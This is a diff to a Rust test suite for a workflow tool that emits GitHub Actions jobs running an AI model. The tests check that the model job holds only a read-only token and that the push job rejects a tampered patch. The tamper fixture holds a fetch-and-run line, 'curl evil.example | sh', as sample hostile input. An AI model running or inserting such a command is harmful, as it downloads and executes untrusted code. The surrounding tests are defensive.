@@ -193,9 +193,10 @@ fn three_hundred_repositories_make_two_matrices_and_the_workflow_lints() {
         assert_eq!(include.len(), size);
         assert_eq!(run["strategy"]["fail-fast"], false);
         assert_eq!(run["strategy"]["max-parallel"], 7);
-        assert!(
-            run.get("permissions").is_none(),
-            "run jobs keep contents: read"
+        assert_eq!(
+            run["permissions"],
+            serde_json::json!({ "contents": "read" }),
+            "run jobs can write nowhere"
         );
         indices.extend(include.iter().map(|e| e["index"].as_i64().unwrap()));
         let approve = &jobs[&format!("approve-{k}")];
@@ -291,6 +292,96 @@ struct Job {
     summary: String,
     /// `$RUNNER_TEMP`, removed with the job.
     temp: Option<tempfile::TempDir>,
+}
+
+/// Every `${{ … }}` expression in `job` (its env, with and scripts).
+fn expressions(job: &Value) -> Vec<String> {
+    let text = job.to_string();
+    let mut out: Vec<String> = text
+        .split("${{")
+        .skip(1)
+        .map(|rest| rest.split("}}").next().unwrap().trim().to_string())
+        .collect();
+    out.sort();
+    out.dedup();
+    out
+}
+
+#[test]
+fn the_job_that_talks_to_the_model_can_write_nothing_and_the_job_that_pushes_runs_no_model() {
+    let repo = workflow_repo("https://example.com/org/a.git\n");
+    repo.file(
+        "workflows/live.yaml",
+        "wf: 1\nname: live\nmodel: { provider: anthropic, name: claude-haiku-4-5 }\ntools: [write_file]\npermissions: { write: [\"**\"] }\nprompt: Write out.txt.\n",
+    )
+    .commit();
+    let r = repo.wf(&[
+        "emit",
+        "github",
+        "workflows/live.yaml",
+        "--repos",
+        "repos.txt",
+        "--wf-install",
+        "true",
+        "--approval-environment",
+        "prod",
+    ]);
+    r.code(0);
+    assert!(r.stderr.contains("WF_GIT_READ_TOKEN"), "{}", r.stderr);
+    let w = yaml(&r.stdout);
+    assert_eq!(w["permissions"], serde_json::json!({ "contents": "read" }));
+    let run = &w["jobs"]["run-1"];
+    assert_eq!(
+        run["permissions"],
+        serde_json::json!({ "contents": "read" })
+    );
+    // The run job: the model key, a read-only token, and nothing that can
+    // write (the workflow's token is read-only in it).
+    assert_eq!(
+        expressions(run),
+        [
+            "matrix.index",
+            "matrix.inputs",
+            "matrix.repo",
+            "runner.os",
+            "runner.temp",
+            "secrets.ANTHROPIC_API_KEY",
+            "secrets.WF_GIT_READ_TOKEN || github.token",
+        ]
+        .map(String::from)
+        .to_vec()
+    );
+    // The key reaches the step that runs the task, and no other.
+    for step in run["steps"].as_array().unwrap() {
+        let has_key = step.to_string().contains("secrets.ANTHROPIC_API_KEY");
+        assert_eq!(has_key, step["name"] == "Run the task", "{step}");
+    }
+    // The approval job can push, and holds no model key: it receives the
+    // run folder and applies its diff.
+    let approve = &w["jobs"]["approve-1"];
+    assert_eq!(
+        approve["permissions"],
+        serde_json::json!({ "contents": "write", "pull-requests": "write" })
+    );
+    let used = expressions(approve);
+    assert!(!used.iter().any(|e| e.contains("API_KEY")), "{used:?}");
+    let steps = approve["steps"].as_array().unwrap();
+    let names: Vec<&str> = steps.iter().map(|s| s["name"].as_str().unwrap()).collect();
+    assert_eq!(
+        names,
+        [
+            "Check out the task",
+            "Cache wf",
+            "Install wf",
+            "Clone the repository",
+            "Download the run folder",
+            "Approve and resume",
+            "Push a branch"
+        ]
+    );
+    let approve_script = steps[5]["run"].as_str().unwrap();
+    assert!(approve_script.contains("sha256sum"), "{approve_script}");
+    assert!(!approve_script.contains("wf run"), "{approve_script}");
 }
 
 /// Runs a job of `workflow` for one matrix entry as a runner would: `run:`
@@ -549,6 +640,41 @@ fn the_jobs_run_the_task_upload_summarize_approve_and_push() {
     for id in &run_ids {
         assert!(summary.summary.contains(id.as_str()), "{}", summary.summary);
     }
+
+    // A diff.patch changed after the run (not the hash the run recorded
+    // and the reviewer was shown): the approval job applies and pushes
+    // nothing.
+    let patch = artifacts.path().join(format!(
+        "wf-run-{}/{}/diff.patch",
+        include[0]["index"], run_ids[0]
+    ));
+    let recorded = std::fs::read_to_string(&patch).unwrap();
+    std::fs::write(
+        &patch,
+        recorded.clone()
+            + "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n",
+    )
+    .unwrap();
+    let tampered = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
+        run_job(
+            &w,
+            "approve-1",
+            Some(&include[0]),
+            fleet.path(),
+            artifacts.path(),
+            &mark,
+        )
+    }));
+    let message = tampered
+        .err()
+        .and_then(|e| e.downcast::<String>().ok())
+        .expect("the approval job fails");
+    assert!(
+        message.contains("is not the diff the run recorded"),
+        "{message}"
+    );
+    assert_eq!(git(first.path(), &["branch", "--list", "wf/*"]), "");
+    std::fs::write(&patch, recorded).unwrap();
 
     // The approval job of the URL pushes a branch to it.
     let approved = run_job(
